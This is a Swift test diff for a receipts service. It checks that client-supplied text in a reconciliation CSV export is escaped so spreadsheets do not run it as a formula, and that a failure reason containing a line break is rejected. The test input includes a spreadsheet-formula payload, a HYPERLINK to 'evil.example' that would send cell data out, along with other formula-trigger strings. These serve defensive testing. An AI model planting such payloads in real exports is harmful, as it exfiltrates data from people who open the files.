@@ -162,4 +162,28 @@ struct ReportRoutesTests {
             #expect(byState["verified"]?.1 == 0, "\(byState)")
         }
     }
+
+    @Test("client-chosen text in the CSV is never a spreadsheet formula, and a reason's map reads back one way; a reason with a line break is refused")
+    func csvCellsAreInert() async throws {
+        try await withReceiptsApplication(apple) { http, _ in
+            let formula = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
+            for (order, product) in [("f-1", formula), ("f-2", "+SUM(1,2)"), ("f-3", "@SUM(1)"), ("f-4", "-2+3")] {
+                let (created, answer) = try await http.send(.post, "/v1/orders", json: newOrder(order, product: product))
+                #expect(created == .created, "\(answer)")
+            }
+            let (failed, _) = try await http.send(.post, "/v1/orders/f-1/events", json: ["type": "failed", "data": ["reason": "=1+2;x=y=1"]])
+            #expect(failed == .created)
+            let (refused, error) = try await http.send(.post, "/v1/orders/f-2/events", json: ["type": "failed", "data": ["reason": "line1\r\nline2"]])
+            #expect(refused == .badRequest && errorOf(error)["message"] as? String == "reason contains a control character", "\(error)")
+
+            let csv = try await http.client.execute(
+                uri: "/v1/reports/reconciliation?from=2000-01-01", method: .get, headers: [.authorization: "Bearer \(http.key)", .accept: "text/csv"])
+            let lines = String(buffer: csv.body).split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
+            let cells = lines.dropFirst().map { $0.split(separator: ",", maxSplits: 2).dropFirst().first.map(String.init) ?? "" }
+            #expect(cells.contains(#""'=HYPERLINK(""http://evil.example/?""&A1"#), "\(lines)")
+            #expect(cells.contains(#""'+SUM(1"#) && cells.contains("'@SUM(1)") && cells.contains("'-2+3"), "\(lines)")
+            #expect(lines.contains { $0.contains(",1,%3D1+2%3Bx%3Dy%3D1=1,") }, "the reason's map: \(lines)")
+            #expect(!lines.contains { $0.contains(",'total,") || $0.contains("=1+2;") }, "\(lines)")
+        }
+    }
 }
